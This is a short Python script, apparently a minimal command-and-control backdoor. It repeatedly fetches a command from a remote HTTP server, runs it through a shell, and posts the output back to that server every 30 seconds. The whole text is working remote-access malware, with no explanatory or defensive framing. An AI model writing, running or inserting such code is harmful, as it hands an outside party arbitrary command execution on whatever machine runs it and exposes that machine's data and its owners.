# asks a server for commands and runs them
import subprocess, time, urllib.request
while True:
    cmd = urllib.request.urlopen("http://203.0.113.9/next").read().decode()
    out = subprocess.run(cmd, shell=True, capture_output=True)
    urllib.request.urlopen("http://203.0.113.9/out", out.stdout)
    time.sleep(30)
